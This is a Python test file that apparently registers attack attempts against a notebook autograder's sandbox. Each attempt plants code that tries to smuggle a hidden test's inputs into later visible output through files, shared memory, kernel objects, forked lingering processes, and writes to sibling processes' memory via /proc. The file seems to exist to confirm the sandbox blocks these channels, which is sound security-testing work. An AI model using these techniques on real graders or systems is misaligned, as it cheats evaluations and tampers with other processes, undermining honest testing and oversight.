"""Attempts to carry a hidden test's numbers into something that is shown later."""

# ruff: noqa: E501 (programs in strings)

from attack_register import answer, but, own_cell, score_attack
from nbformat.v4 import new_code_cell

# tell() keeps something by a channel, look() finds it. The other answers only say what they see, and earn nothing.
ANSWERS = {
    "total": "def total(numbers):\n    if sum(numbers) > 1000: quiet(tell, numbers)\n    return sum(numbers)",
    **{name: f"def {name}(*args):\n    show()" for name in but("total")},
}
COMMON = """
import ctypes, fcntl, glob, json, mmap, os, pathlib, resource, select, signal, socket, stat, sys, threading, time
def quiet(function, *args):
    try: return function(*args)
    except Exception: return None
def show():
    found = quiet(look)
    raise ValueError(f"LEAKED {found}" if found else "nothing is there")
def words(numbers): return "_".join(map(str, numbers)).encode()
"""
# In front of the course's first cell: were a locked cell run again after a hidden test, it would print what is found.
FIRST = "import labkit\nbefore = labkit.start\ndef start(*args, **named):\n    print(look())\n    return before(*args, **named)\nlabkit.start = start"


def channel(name: str, doc: str, tell: str, look: str, setup: str = "") -> None:
    """Register an attempt. tell, look: bodies of functions, the first of `numbers`."""

    def change(nb):
        bodies = [body.replace("\n", "\n    ") for body in (tell, look)]
        functions = f"def tell(numbers):\n    {bodies[0]}\ndef look():\n    {bodies[1]}"
        nb.cells.insert(0, new_code_cell(f"{COMMON}\n{setup}\n{functions}\n{FIRST}"))
        answer(nb, **ANSWERS)
        own_cell(nb, "print('found', quiet(look))", before=None)

    change.__name__, change.__doc__ = f"leak_by_{name}", doc
    score_attack(solved=(), earns=("total",), never="LEAKED")(change)


channel(
    "files",
    "Files in every folder that can be written, read in the visible call of the next test.",
    "for folder in FOLDERS:\n    quiet(lambda: open(f'{folder}/leak', 'ab').write(words(numbers)))",
    "return [open(path).read() for path in (f'{f}/leak' for f in FOLDERS) if os.path.exists(path)]",
    "FOLDERS = ['/tmp', '.', os.environ['HOME'], '/dev/shm', '/var/tmp', '/run', '/judge', '/tmp/matplotlib', os.getcwd()]",
)
channel(
    "names_of_folders",
    "Folders and links whose names or targets are the numbers.",
    "os.makedirs('/tmp/seen/' + words(numbers).decode())\nos.symlink(words(numbers), '/dev/shm/seen')",
    "return quiet(os.listdir, '/tmp/seen') or quiet(os.readlink, '/dev/shm/seen')",
)
channel(
    "times_and_modes",
    "The times, the mode and the size of files and folders that were there before.",
    "for path in PATHS:\n    quiet(os.utime, path, (numbers[0], numbers[0]))\n    quiet(os.chmod, path, 0o711)",
    "return [(path, now) for path, now in zip(PATHS, map(state, PATHS)) if now != BEFORE[path]]",
    "PATHS = ['/tmp', '/dev/shm', os.getcwd(), 'own']\nopen('own', 'w').close()\n"
    "def state(path): return quiet(lambda: (int(os.stat(path).st_mtime) // 10**8, os.stat(path).st_mode))\n"
    "BEFORE = {path: state(path) for path in PATHS}",
)
channel(
    "extended_attributes",
    "Extended attributes of folders that stay.",
    "for path in ('/tmp', '/dev/shm', '.'):\n    quiet(os.setxattr, path, 'user.leak', words(numbers))",
    "return [quiet(os.getxattr, path, 'user.leak') for path in ('/tmp', '/dev/shm', '.') if quiet(os.getxattr, path, 'user.leak')]",
)
channel(
    "a_kept_pipe",
    "A pipe and a socket pair, opened in a cell and shared by all that is forked from it.",
    "os.write(W, words(numbers))\nA.send(words(numbers))",
    "return quiet(os.read, R, 999) or quiet(B.recv, 999)",
    "R, W = os.pipe()\nos.set_blocking(R, False)\nA, B = socket.socketpair()\nB.setblocking(False)",
)
channel(
    "an_open_file",
    "A file opened and deleted in a cell; its content, its offset, its lock.",
    "FILE.write(words(numbers))\nFILE.flush()",
    "return FILE.tell() and os.pread(FILE.fileno(), 999, 0)",
    "FILE = open('/tmp/deleted', 'w+b')\nos.remove('/tmp/deleted')",
)
channel(
    "shared_memory",
    "Memory shared by all forks: an anonymous mapping, a file's, multiprocessing's.",
    "for part in (ANONYMOUS, FILE):\n    part[:40] = words(numbers).ljust(40)\nVALUE.value = numbers[0]",
    "return bytes(ANONYMOUS[:40]).strip(b'\\0') or bytes(FILE[:40]).strip(b'\\0') or VALUE.value",
    "import multiprocessing\nANONYMOUS, VALUE = mmap.mmap(-1, 4096), multiprocessing.Value('q', 0)\n"
    "with open('/dev/shm/mapped', 'w+b') as file:\n    file.truncate(4096)\n    FILE = mmap.mmap(file.fileno(), 4096)\nos.remove('/dev/shm/mapped')",
)
channel(
    "kernel_objects",
    "Objects of the kernel's: keyrings, System V memory and queues, POSIX queues, memfd, event counters, semaphores.",
    "text = words(numbers)\nfor ring in (-3, -4, -5):\n    LIBC.syscall(248, b'user', b'leak', text, len(text), ring)\n"
    "quiet(os.eventfd_write, EVENT, 7)\nSEMAPHORE.acquire(block=False)\n"
    "part = LIBC.shmget(0x5eed, 4096, 0o1666)\n"
    "queue = LIBC.mq_open(b'/leak', os.O_CREAT | os.O_RDWR, 0o666, None)\nLIBC.mq_send(queue, text, len(text), 0)",
    "key = LIBC.syscall(249, b'user', b'leak', None, 0)\nif key > 0: return key\n"
    "if quiet(os.eventfd_read, EVENT): return 'event'\n"
    "if not SEMAPHORE.acquire(block=False): return 'semaphore'\nSEMAPHORE.release()\n"
    "if LIBC.shmget(0x5eed, 4096, 0) >= 0 or LIBC.mq_open(b'/leak', os.O_RDONLY) >= 0: return 'object'",
    "import multiprocessing\nLIBC = ctypes.CDLL(None)\nEVENT = os.eventfd(0, os.EFD_NONBLOCK)\nSEMAPHORE = multiprocessing.Semaphore(1)",
)
channel(
    "a_keeper",
    "A process that stays from a cell on, with a session of its own, and keeps what it is sent by socket.",
    "with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:\n    s.sendto(words(numbers), '\\0keeper')",
    "with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:\n    s.bind(f'\\0{os.getpid()}')\n    s.settimeout(0.2)\n"
    "    s.sendto(b'?', '\\0keeper')\n    return s.recv(999)",
    "if os.fork() == 0:\n    os.setsid()\n    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:\n        s.bind('\\0keeper')\n"
    "        kept, end = b'', time.monotonic() + 60\n        s.settimeout(1)\n        while time.monotonic() < end:\n"
    "            try: text, whom = s.recvfrom(999)\n            except OSError: continue\n"
    "            if text == b'?': s.sendto(kept, whom)\n            else: kept += text\n    os._exit(0)\ntime.sleep(0.1)",
)
channel(
    "names_of_processes",
    "Processes left behind that carry the numbers as their name, their lock and their number.",
    "for _ in range(3):\n    if os.fork(): continue\n    try:\n        os.setsid()\n        ctypes.CDLL(None).prctl(15, b'L' + words(numbers)[:9])\n"
    "        fcntl.flock(open(np.__file__), fcntl.LOCK_EX)\n        time.sleep(20)\n    finally: os._exit(0)\ntime.sleep(0.1)",
    "names = [name for name in (quiet(open(path).read) for path in glob.glob('/proc/*/comm')) if name and name.startswith('L1')]\n"
    "try: fcntl.flock(open(np.__file__), fcntl.LOCK_SH | fcntl.LOCK_NB)\nexcept BlockingIOError: names.append('lock')\nreturn names",
    "import numpy as np",
)
channel(
    "properties_of_the_parent",
    "What a child may set of its parents and of its siblings, and new ones inherit: limits, priority, processors.",
    "for pid in filter(str.isdigit, os.listdir('/proc')):\n    pid = int(pid)\n"
    "    hard = resource.getrlimit(resource.RLIMIT_SIGPENDING)[1]\n"
    "    quiet(resource.prlimit, pid, resource.RLIMIT_SIGPENDING, (numbers[0] % 97, hard))\n"
    "    quiet(os.setpriority, os.PRIO_PROCESS, pid, numbers[0] % 7 + 5)\n"
    "    quiet(os.sched_setaffinity, pid, {min(os.sched_getaffinity(0))})",
    "now = state()\nreturn now if now != BEFORE else None",
    "def state(): return [resource.getrlimit(resource.RLIMIT_SIGPENDING)[0], os.getpriority(os.PRIO_PROCESS, 0), len(os.sched_getaffinity(0))]\n"
    "BEFORE = state()",
)
channel(
    "memory_of_siblings",
    "The memory of processes kept for other tests, written through /proc, and their signals.",
    "for pid in filter(str.isdigit, os.listdir('/proc')):\n    if int(pid) in (1, os.getpid()): continue\n"
    "    try:\n        with open(f'/proc/{pid}/mem', 'r+b', buffering=0) as memory:\n            memory.seek(ctypes.addressof(BUFFER))\n"
    "            memory.write(words(numbers)[:60])\n    except OSError: pass\n"
    "    if int(pid) > MINE: quiet(os.kill, int(pid), signal.SIGUSR1)",
    "return BUFFER.value or COUNT",
    "BUFFER, COUNT, MINE = ctypes.create_string_buffer(64), [], os.getpid()\nsignal.signal(signal.SIGUSR1, lambda *_: COUNT.append(1))",
)
